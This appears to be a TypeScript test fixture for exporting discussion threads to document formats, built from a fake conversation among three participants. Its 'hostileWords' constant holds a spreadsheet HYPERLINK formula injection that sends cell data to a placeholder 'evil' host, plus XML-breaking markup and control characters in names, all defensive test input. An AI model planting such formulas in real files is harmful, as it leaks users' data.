/** A chapter's talk for the tests of its files: what people of the test paper said, hostile words among it. */
import { bildung } from '#shared/paper.fake'
import {
  afterAll,
  everyThread,
  opened,
  other,
  rejected,
  replied,
  suggested,
  third,
  workshop,
  type Happening,
} from '#shared/thread.fake'
import { frozenEvent } from '#shared/version.fake'
import { versionMark } from './version-mark.ts'
import { makeHere, type WeighingFormat, type WeighingOrder, type WeighingPart } from './weighing-file.ts'

const madeAt = '2026-11-30T12:00:00.000Z'

/** What must come out of every file as text, or not at all. */
export const hostileWords = '=HYPERLINK("http://evil/?"&A1);</w:t></text:p>&#x0; <b>"fett"</b>'

export const talk: readonly Happening[] = [
  ['olena', suggested],
  ['aylin', replied()],
  ['sabine', rejected],
  ['aylin', opened({ thread: other, body: hostileWords })],
  ['olena', opened({ thread: third, body: hostileWords })],
  ['sabine', { type: 'threadsJoined', into: other, threads: [third] }],
]

/** What the house has frozen last. */
export const mark = versionMark(
  { baseUrl: new URL('https://lip.example.org'), keeper: { records: workshop, versions: [] } },
  { ...frozenEvent('interim'), by: null, seq: 1, names: {} },
)

const order = (format: WeighingFormat, version: WeighingOrder['version']): WeighingOrder => ({
  format,
  records: workshop,
  chapter: bildung,
  at: madeAt,
  version,
  names: Object.fromEntries([
    ['per_aylin', 'Aylin Demir'],
    ['per_olena', 'Olena\u202E Koval\u0000'],
    ['per_sabine', '@Sabine "Bine" Roth'],
  ]),
})

/** The file of what was said. */
export const fileOf = (
  format: WeighingFormat,
  happenings: readonly Happening[] = talk,
  version: WeighingOrder['version'] = null,
): Promise<Uint8Array> => makeHere(order(format, version), partsOf(happenings))

async function* partsOf(happenings: readonly Happening[]): AsyncGenerator<WeighingPart> {
  yield { kind: 'threads', threads: everyThread(afterAll(happenings)) }
}
